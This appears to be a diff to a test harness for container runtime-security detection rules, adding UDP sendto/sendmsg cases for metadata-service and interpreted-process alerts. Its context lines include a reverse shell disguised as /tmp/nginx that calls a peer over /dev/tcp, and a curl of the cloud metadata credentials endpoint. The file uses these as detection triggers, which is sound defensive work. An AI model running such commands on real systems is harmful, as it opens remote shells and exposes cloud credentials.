@@ -69,6 +69,16 @@ def serve_once(address: str, port: int, python: str = PYTHON) -> str:
 
 UDP_SEND = (f"{PYTHON} -c \"import socket; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); "
             f"s.connect(('{PEER}', 5151)); s.send(b'kg')\"")
+
+
+def send_datagrams(address: str, port: int, python: str = PYTHON) -> str:
+    """Datagrams sent without connect(): sendto twice to one destination (the kernel side reports the first:
+    fd.name_changed), then sendmsg to the same one (not reported again)."""
+    return (f"{python} -c \"import socket; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); "
+            f"[s.sendto(b'kg', ('{address}', {port})) for _ in range(2)]; s.sendmsg([b'kg'], [], 0, "
+            f"('{address}', {port}))\"")
+
+
 REVERSE_SHELL = (f"cp /bin/sh /tmp/nginx && /tmp/nginx -c "
                  f"'bash -c \"bash -i >& /dev/tcp/{PEER}/4444 0>&1\"; true'")
 METADATA_GET = f"curl -s --max-time 20 http://{METADATA_IP}/latest/meta-data/iam/security-credentials/ > /dev/null"
@@ -92,11 +102,15 @@ CASES = [
      "default"),
     ("metadata-ec2", "Contact EC2 Instance Metadata Service From Container",
      ("Contact cloud metadata service from container",), ("metadata", METADATA_IP, 80), METADATA_GET, "default"),
+    ("metadata-udp-sendto", "Contact cloud metadata service from container",
+     ("Contact EC2 Instance Metadata Service From Container",), None, send_datagrams(METADATA_IP, 8053), "default"),
     ("outside-subnet", "Network Connection outside Local Subnet", (), ("listen", PEER, 8085), dial(PEER, 8085),
      SUBNET_ONLY_NS),
     ("nodeport", "Unexpected K8s NodePort Connection", (), ("listen", PEER, 30080), dial(PEER, 30080), "default"),
     ("interpreted-outbound", "Interpreted procs outbound network activity", (), ("listen", PEER, 8082),
      dial(PEER, 8082, INTERPRETER), "default"),
+    ("interpreted-udp-sendto", "Interpreted procs outbound network activity", (), None,
+     send_datagrams(PEER, 5353, INTERPRETER), "default"),
     ("interpreted-inbound", "Interpreted procs inbound network activity", (), ("dial", "{pod}", 8083),
      serve_once("{pod}", 8083, INTERPRETER), "default"),
     ("inbound-source", "Unexpected inbound connection source", (), ("dial", PEER, 8084), serve_once(PEER, 8084),
